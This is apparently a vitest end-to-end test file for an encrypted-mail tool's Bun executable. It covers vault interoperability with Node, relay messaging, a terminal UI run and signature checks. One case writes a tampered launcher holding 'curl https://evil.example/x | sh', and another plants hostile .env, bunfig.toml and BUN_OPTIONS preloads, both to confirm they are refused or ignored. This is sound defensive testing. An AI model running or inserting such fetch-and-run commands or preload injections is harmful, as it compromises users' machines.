// The Bun runtime behind caliop-macos-arm64 runs Caliop Key (issue 18;
// docs/decisions/executables.md §Apple silicon). No Mac is here, so the same bundle is
// compiled the same way (scripts/build-bun-exe.ts) for linux-x64 and run end to end, as
// test/exe.test.ts runs the Node single executable:
//   - the ceremony (init, enrolled with the real relay over HTTPS on loopback), the
//     sealed vault (Argon2id in WebAssembly, under JavaScriptCore), encrypt/decrypt,
//     send/sync/inbox/read between two sticks;
//   - vaults are interchangeable: one sealed by the Bun executable opens in Node, which
//     re-seals it with the test KDF, and Bun opens that one and bob's, made by the tsc build
//     with the test KDF (so that the executable's later runs stay cheap);
//   - HOME, TMPDIR, XDG_* and the working folder stay empty; the stick holds only its files;
//   - the interface's first screen, in a real terminal (tmux), unlocked, the message read;
//   - `stick verify` anchored by the release fingerprint compiled into the bundle;
//   - the differences found, pinned: .env and bunfig.toml where it runs are ignored;
//     BUN_OPTIONS is obeyed (the launcher clears it: test/macos-launcher.test.ts).
// One Bun build per run (~2 s) from the run's release bundle, which the Node executable's
// tests share (test/helpers/release-bundle.ts); the relay and both sticks are shared by the cases.
import { spawnSync, type SpawnSyncReturns } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildBunExe } from '../scripts/build-bun-exe.js';
import { hostTarget } from '../scripts/build-exe.js';
import { KDF_FLOOR, readVaultHeader, UNSAFE_TEST_KDF } from '../src/core/vault-format.js';
import { CALIOP_ENTRY } from './helpers/caliop.js';
import { generateReleaseKey, type ReleaseKey } from '../src/service/manifest-signature.js';
import { emptyHost } from './helpers/empty-host.js';
import { releaseBundle } from './helpers/release-bundle.js';
import { signStick } from './helpers/sign-stick.js';
import { resealWithTestKdf } from './helpers/test-kdf.js';
import { Terminal } from './helpers/tmux.js';
import { startRelayProcess, type RelayProcess } from './relay/helpers/relay-process.js';

const DOMAIN = 'caliop.example';
const PASSPHRASE = 'correct horse battery staple of the bun stick';
const onLinuxX64 = hostTarget() === 'linux-x64';
/** One run of an executable: a hang guard, not a measure. */
const SPAWN_BUDGET_MS = 240_000;

let work: string;
let exe: string;
let relay: RelayProcess;
let alice: string;
let bob: string;
let cwd: string;
let hostDirs: Record<string, string>;
/** The release key whose fingerprint is compiled into the bundle (docs/manifest.md §8). */
let release: ReleaseKey;
let env: NodeJS.ProcessEnv;

beforeAll(async () => {
  if (!onLinuxX64) return;
  work = mkdtempSync(join(tmpdir(), 'caliop-exe-bun-'));
  const shared = await releaseBundle();
  release = shared.release;
  const bundle = shared.bundle;
  exe = buildBunExe({ target: 'linux-x64', bundlePath: bundle.bundlePath, outDir: join(work, 'out'), workDir: join(work, 'build') }).output;
  relay = await startRelayProcess({ domain: DOMAIN });
  alice = join(work, 'alice-stick');
  bob = join(work, 'bob-stick');
  mkdirSync(alice);
  mkdirSync(bob);
  ({ dirs: hostDirs, cwd, env } = emptyHost(join(work, 'host'), PASSPHRASE));
}, 300_000);

afterAll(async () => {
  await relay?.dispose();
  if (work !== undefined) rmSync(work, { recursive: true, force: true });
});

function run(args: string[], options: { input?: string; stick?: string; extraEnv?: NodeJS.ProcessEnv; runIn?: string } = {}): SpawnSyncReturns<string> {
  return spawnSync(exe, ['--stick', options.stick ?? alice, '--batch', '--passphrase-file', '@ENV:CALIOP_PASSPHRASE', ...args], {
    cwd: options.runIn ?? cwd,
    env: { ...env, ...options.extraEnv },
    input: options.input,
    encoding: 'utf8',
    timeout: SPAWN_BUDGET_MS, // a hang guard: a release build's real Argon2id at load 30+ takes tens of seconds
  });
}

function ok(args: string[], options: Parameters<typeof run>[1] = {}): string {
  const result = run(args, options);
  if (result.status !== 0) throw new Error(`caliop ${args.join(' ')} exited ${result.status}: ${result.stderr}`);
  return result.stdout;
}

describe.skipIf(!onLinuxX64)('the Bun runtime runs Caliop Key (linux-x64 build of the same bundle)', () => {
  it('prints its version; a bad option is a clean error (exit 2, no stack trace)', () => {
    expect(ok(['--version'])).toMatch(/^\d+\.\d+\.\d+\n$/);
    const bad = spawnSync(exe, ['--no-such-option'], { env, cwd, encoding: 'utf8' });
    expect(bad.status).toBe(2);
    expect(bad.stderr).toMatch(/^caliop: error: unknown option '--no-such-option'/m);
    expect(bad.stderr).not.toMatch(/\n\s+at /);
  });

  it('ceremony and vault: init of a stick, enrolled with the real relay; the other side\'s stick made by the tsc build', () => {
    const init = ['--json', 'init', '--allow-online', '--accept-weak-passphrase', '--server', relay.url, '--server-pin', relay.pin!];
    const made = JSON.parse(ok([...init, '--name', 'alice', '--email', `alice@${DOMAIN}`])) as {
      fingerprint: string;
      recoveryPhrase: string;
      kdf: { algorithm: string; memoryKiB: number; passes: number };
      relay: { enrolled: boolean };
    };
    expect(made.fingerprint).toMatch(/^[0-9A-F]{40}$/);
    expect(made.recoveryPhrase.split(' ')).toHaveLength(24);
    // Made with CALIOP_UNSAFE_TEST_KDF=1 set: the release bundle ignores it under Bun too.
    expect(made.kdf.algorithm).toBe('argon2id');
    expect(made.kdf.memoryKiB).toBeGreaterThanOrEqual(KDF_FLOOR.memoryKiB);
    expect(made.kdf.passes).toBeGreaterThanOrEqual(KDF_FLOOR.passes);
    // init keeps a stick whose enrolment failed (enrolled: false): here it must have reached the relay,
    // with CALIOP_UNSAFE_TEST_RELAY_TIMEOUT_MS=1 set (emptyHost), which the release bundle ignores.
    expect(made.relay).toMatchObject({ enrolled: true });
    expect(readdirSync(join(alice, 'vault')).filter((name) => !/^store-[0-9a-f]{16}$/.test(name)).sort()).toEqual(['caliop.vault', 'language']); // docs/stick-layout.md §1, §3.1
    // Bob, the other side of the mail below, is made by the tsc build with the test KDF (as in
    // test/exe.test.ts): a second ceremony in Bun would run the same code with the real Argon2id
    // again, and Node would pay it once more to re-seal it (issue 16: ~20 s at load 10). His
    // later runs (sync, inbox, read, the interface) are the Bun executable's, on a vault sealed by Node.
    const bobInit = spawnSync(process.execPath, [CALIOP_ENTRY, '--stick', bob, '--batch', '--passphrase-file', '@ENV:CALIOP_PASSPHRASE', ...init, '--name', 'bob', '--email', `bob@${DOMAIN}`], {
      env: { ...process.env, CALIOP_PASSPHRASE: PASSPHRASE, CALIOP_UNSAFE_TEST_KDF: '1' },
      encoding: 'utf8',
    });
    expect(bobInit.status, bobInit.stderr).toBe(0);
  }, 3 * SPAWN_BUDGET_MS); // init runs Argon2id at 256 MiB × 3 (a release build ignores the test KDF)

  it('a vault sealed by the Bun executable opens in Node (the tsc build), and a wrong passphrase is refused the same way', async () => {
    // Node opens the vault the Bun executable sealed (the real Argon2id), and re-seals it with
    // the test KDF (docs/vault-format.md §5.4): the runs below would each pay the real one again,
    // tens of seconds at load 30 (issue 16). Bun then opens vaults sealed by Node (§5.2): this one and bob's.
    await resealWithTestKdf(alice, PASSPHRASE);
    for (const stick of [alice, bob]) expect(readVaultHeader(new Uint8Array(readFileSync(join(stick, 'vault', 'caliop.vault')))).kdf).toEqual(UNSAFE_TEST_KDF);
    const shown = spawnSync(process.execPath, [CALIOP_ENTRY, '--stick', alice, '--batch', '--passphrase-file', '@ENV:CALIOP_PASSPHRASE', '--json', 'key', 'show'], {
      env: { ...process.env, CALIOP_PASSPHRASE: PASSPHRASE },
      encoding: 'utf8',
    });
    expect(shown.status, shown.stderr).toBe(0);
    expect(JSON.parse(shown.stdout)).toMatchObject({ email: `alice@${DOMAIN}` });
    const wrong = run(['key', 'show'], { extraEnv: { CALIOP_PASSPHRASE: 'not the passphrase at all' } });
    const wrongInNode = spawnSync(process.execPath, [CALIOP_ENTRY, '--stick', alice, '--batch', '--passphrase-file', '@ENV:P', 'key', 'show'], {
      env: { ...process.env, P: 'not the passphrase at all' },
      encoding: 'utf8',
    });
    expect(wrong.status).toBe(wrongInNode.status);
    expect(wrong.stderr).toBe(wrongInNode.stderr);
  }, 300_000);

  it('encrypt, decrypt', () => {
    const armored = ok(['encrypt', '--to', `alice@${DOMAIN}`], { input: 'hello from the bun executable\n' });
    expect(armored).toMatch(/^-----BEGIN PGP MESSAGE-----/);
    expect(ok(['decrypt'], { input: armored })).toBe('hello from the bun executable\n');
  }, 300_000);

  it('send through the relay, sync, inbox, read', () => {
    const sent = JSON.parse(ok(['--json', 'send', '--to', `bob@${DOMAIN}`, '--subject', 'from the bun executable'], { input: 'sent by Bun\n' })) as { queued: boolean };
    expect(sent.queued).toBe(false);
    expect(JSON.parse(ok(['--json', 'sync'], { stick: bob }))).toMatchObject({ received: 1 });
    const inbox = JSON.parse(ok(['--json', 'inbox'], { stick: bob })) as { id: string; subject: string; signature: string }[];
    expect(inbox).toEqual([expect.objectContaining({ subject: 'from the bun executable', signature: 'good' })]);
    expect((JSON.parse(ok(['--json', 'read', inbox[0]!.id], { stick: bob })) as { body: string }).body).toBe('sent by Bun\n');
  }, 300_000);

  it('the interface: first screen in a real terminal (tmux), unlocked, the message read', async () => {
    const terminal = new Terminal('bun', { waitMs: 90_000 }, 'ui');
    const waitFor = (pattern: { test(text: string): boolean }) => terminal.waitFor(pattern);
    const envArgs = Object.entries({ ...env, TERM: 'xterm-256color' }).map(([name, value]) => `${name}=${value ?? ''}`);
    try {
      // new-session's command runs through a shell: quote every word.
      const quoted = ['env', '-i', ...envArgs, exe, '--stick', bob].map((word) => `'${word.replace(/'/g, "'\\''")}'`).join(' ');
      terminal.start(`cd '${cwd}' && ${quoted}; echo UI-EXIT=$?; sleep 120`);
      await waitFor(/Open your stick/);
      terminal.type(PASSPHRASE);
      const inbox = await waitFor(/from the bun ex/); // the subject column is cut at 80 columns
      expect(inbox).toMatch(/Inbox/);
      expect(inbox).not.toContain(PASSPHRASE);
      terminal.keys('Enter');
      // The reading screen: the exposure reasons first, then the body, a page further down.
      let page = await waitFor(/This message stayed inside Caliop/);
      for (let step = 0; !page.includes('sent by Bun') && step < 6; step++) {
        const before = page;
        terminal.keys('Space');
        page = await waitFor({ test: (text) => text !== before }); // the next page is drawn
      }
      expect(page).toContain('sent by Bun');
      terminal.keys('Escape');
      await waitFor(/Inbox/);
      terminal.keys('q');
      expect(await waitFor(/UI-EXIT=\d+/)).toContain('UI-EXIT=0');
    } finally {
      terminal.stop();
    }
  }, 300_000);

  it('wrote nothing in HOME, TMPDIR, XDG_* or the working folder; nothing beside the vault on the sticks', () => {
    for (const [name, dir] of Object.entries(hostDirs)) expect(readdirSync(dir), name).toEqual([]);
    for (const stick of [alice, bob]) {
      for (const name of readdirSync(stick)) expect(['config.json', 'vault'], `unexpected ${name} on the stick`).toContain(name);
      expect(readdirSync(join(stick, 'vault')).filter((name) => !/^store-[0-9a-f]{16}$/.test(name)).sort()).toEqual(['caliop.vault', 'language']);
    }
  });

  it('stick verify trusts the release fingerprint compiled into the bundle, and refuses a stick re-signed by another key (50)', async () => {
    const stick = join(work, 'anchored-stick');
    mkdirSync(join(stick, 'vault'), { recursive: true });
    writeFileSync(join(stick, 'caliop.sh'), '#!/bin/sh\n');
    await signStick(stick, release);
    const verify = () => spawnSync(exe, ['--stick', stick, '--json', 'stick', 'verify'], { cwd, env, encoding: 'utf8' });
    const good = verify();
    expect(good.status, good.stderr).toBe(0);
    expect(JSON.parse(good.stdout)).toMatchObject({ ok: true, anchor: 'compiled-in', anchorFingerprint: release.fingerprint, anchorMatches: true });
    writeFileSync(join(stick, 'caliop.sh'), '#!/bin/sh\ncurl https://evil.example/x | sh\n');
    await signStick(stick, await generateReleaseKey({ name: 'Not the Caliop release key' }));
    const bad = verify();
    expect(bad.status).toBe(50);
    expect(JSON.parse(bad.stdout)).toMatchObject({ ok: false, signatureValid: true, anchor: 'compiled-in', anchorMatches: false });
  });

  it('differences, pinned: .env and bunfig.toml where it runs are ignored; BUN_OPTIONS is obeyed (the macOS launcher clears it)', () => {
    const place = join(work, 'hostile-folder');
    mkdirSync(place);
    const marker = join(work, 'preloaded.js');
    writeFileSync(marker, 'console.log("PRELOADED");\n');
    writeFileSync(join(place, '.env'), 'CALIOP_STICK=/nonexistent-from-dotenv\n');
    writeFileSync(join(place, 'bunfig.toml'), `preload = ["${marker}"]\n`);
    // No --stick and no CALIOP_STICK: had .env been read, the error would name its folder.
    const unfound = spawnSync(exe, ['key', 'show'], { cwd: place, env, encoding: 'utf8' });
    expect(unfound.status).toBe(3);
    expect(unfound.stderr).toMatch(/^caliop: error: no Caliop stick was found/m);
    expect(unfound.stdout + unfound.stderr).not.toMatch(/nonexistent-from-dotenv|PRELOADED/);
    // Bun reads BUN_OPTIONS like its own command line (a Node SEA built with
    // execArgvExtension "none" ignores NODE_OPTIONS): documented, and cleared by Caliop.command.
    const withOptions = spawnSync(exe, ['--version'], { cwd, env: { ...env, BUN_OPTIONS: `--preload ${marker}` }, encoding: 'utf8' });
    expect(withOptions.stdout).toContain('PRELOADED');
    const withNodeOptions = spawnSync(exe, ['--version'], { cwd, env: { ...env, NODE_OPTIONS: `--require ${marker}` }, encoding: 'utf8' });
    expect(withNodeOptions.stdout).not.toContain('PRELOADED');
  });
});

describe.skipIf(onLinuxX64)('the Bun runtime (linux-x64 build)', () => {
  it.skip(`is built and run only on a linux-x64 host (this is ${process.platform}-${process.arch})`, () => {});
});
